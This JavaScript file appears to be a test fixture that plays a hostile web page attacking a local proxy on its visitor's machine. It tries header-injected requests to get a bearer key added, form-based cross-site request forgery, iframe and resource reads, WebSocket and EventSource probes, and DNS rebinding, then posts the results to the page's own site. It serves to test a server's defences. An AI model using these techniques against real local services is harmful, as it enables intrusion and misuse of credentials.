/**
 * What a hostile page does to a server on its visitor's machine. PLAN says where; everything that the page could find out goes to
 * its own site.
 */
/* global PLAN */

/** Each attack gets an origin and gives what the page learned. The witness knows them by `/proxy/NAME`. */
const ATTACKS = {
  async get(base) {
    return await read(fetch(`${base}/proxy/get`));
  },
  async health(base) {
    return await read(fetch(`${base}/health`));
  },
  async headers(base) {
    return await read(fetch(`${base}/proxy`, { headers: injection() }));
  },
  async origin(base) {
    const headers = { "X-AS-Target-Origin": PLAN.target, "X-AS-Inject-Bearer": "KEY" };
    return await read(fetch(`${base}/proxy/echo`, { headers }));
  },
  async blind(base) {
    return await read(fetch(`${base}/proxy/blind`, { mode: "no-cors", credentials: "include" }));
  },
  async post(base) {
    return await read(fetch(`${base}/proxy/post`, { method: "POST", body: JSON.stringify(injection()) }));
  },
  async forget(base) {
    return await read(fetch(`${base}/forget`, { method: "POST", mode: "no-cors" }));
  },
  async form(base) {
    const frame = await framed();
    const form = element("form", { action: `${base}/proxy/form`, method: "POST", target: frame.name });
    form.append(element("input", { name: "X-AS-Inject-Bearer", value: "KEY" }));
    document.body.append(form);
    const loaded = new Promise((resolve) => frame.addEventListener("load", resolve));
    form.submit();
    await loaded;
    return contentOf(frame);
  },
  async frame(base) {
    const frame = await framed();
    const loaded = new Promise((resolve) => frame.addEventListener("load", resolve));
    frame.src = `${base}/proxy/frame`;
    await loaded;
    return contentOf(frame);
  },
  image: (base) => loads(element("img", { src: `${base}/proxy/image` })),
  script: (base) => loads(element("script", { src: `${base}/proxy/script` })),
  style: (base) => loads(element("link", { rel: "stylesheet", href: `${base}/proxy/style` })),
  events(base) {
    const source = new EventSource(`${base}/proxy/events`);
    return new Promise((resolve) => {
      source.onmessage = ({ data }) => resolve(`read ${data}`);
      source.onerror = () => {
        source.close();
        resolve("nothing");
      };
    });
  },
  socket(base) {
    const socket = new WebSocket(`${base.replace("http", "ws")}/proxy/socket`);
    return new Promise((resolve) => {
      socket.onopen = () => resolve("opened");
      socket.onclose = ({ code, reason }) => resolve(code === 1006 && reason === "" ? "nothing" : `read ${reason}`);
    });
  },
  beacon(base) {
    navigator.sendBeacon(`${base}/proxy/beacon`, new Blob(["x"], { type: "text/plain" }));
    return Promise.resolve("nothing");
  },
};

function injection() {
  return { "X-AS-Target-URL": `${PLAN.target}/echo`, "X-AS-Inject-Bearer": "KEY" };
}

/** What a page can read of an answer: "nothing" for an error or an opaque one. */
async function read(answering) {
  try {
    const answer = await answering;
    if (answer.type === "opaque" && answer.status === 0 && (await answer.text()) === "") return "nothing";
    return `read ${answer.status} ${await answer.text()}`;
  } catch {
    return "nothing";
  }
}

function element(name, attributes) {
  return Object.assign(document.createElement(name), attributes);
}

/** Whether something that a page embeds could be used. */
function loads(node) {
  return new Promise((resolve) => {
    node.onload = () => resolve("loaded");
    node.onerror = () => resolve("nothing");
    document.head.append(node);
  });
}

let frames = 0;

/** An empty frame: its first load is over. */
async function framed() {
  const frame = element("iframe", { name: `frame-${++frames}` });
  const loaded = new Promise((resolve) => frame.addEventListener("load", resolve));
  document.body.append(frame);
  await loaded;
  return frame;
}

function contentOf(frame) {
  try {
    return `read ${frame.contentDocument?.body?.textContent ?? frame.contentWindow.location.href}`;
  } catch {
    return "nothing";
  }
}

/** What the browser tells a page about its requests: sizes and statuses that it should not. */
function measured(base) {
  const seen = performance.getEntriesByType("resource").filter(({ name }) => name.startsWith(base));
  return seen.filter(({ responseStatus, encodedBodySize }) => responseStatus > 0 || encodedBodySize > 0)
    .map(({ name, responseStatus }) => `${name} ${responseStatus}`);
}

/** An attack without an end must not keep the others from being told. */
function hangs() {
  return new Promise((resolve) => setTimeout(resolve, 20_000, "hangs"));
}

async function attack() {
  const learned = {};
  for (const base of PLAN.bases) {
    learned[base] = {};
    for (const [name, work] of Object.entries(ATTACKS)) {
      learned[base][name] = await Promise.race([work(base), hangs()]);
    }
    learned[base].measured = measured(base);
  }
  return learned;
}

addEventListener("load", async () => {
  // A page whose name is about to lead elsewhere waits for that.
  if (PLAN.rebind !== undefined) await fetch(`${PLAN.site}/rebind`, { method: "POST" });
  await fetch(`${PLAN.site}/report`, { method: "POST", body: JSON.stringify(await attack()) });
  if (PLAN.next !== undefined) location.href = PLAN.next;
});
